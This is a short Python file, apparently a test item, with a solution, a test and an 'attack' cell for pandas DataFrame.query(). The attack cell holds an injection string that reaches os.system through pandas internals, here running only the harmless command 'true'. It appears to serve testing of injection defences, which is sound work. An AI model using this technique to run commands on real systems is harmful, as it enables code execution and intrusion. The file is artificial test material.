"""A condition as text, for a frame's query()."""


# %% solution
def condition():
    return "x > 1"


# %% test
import pandas as pd

df = pd.DataFrame({"x": [1, 2, 3]})
assert df.query(condition()).x.sum() == 5


# %% attack
def condition():
    return "@pd.core.computation.expr.ast.sys.modules['os'].system('true') == 0"
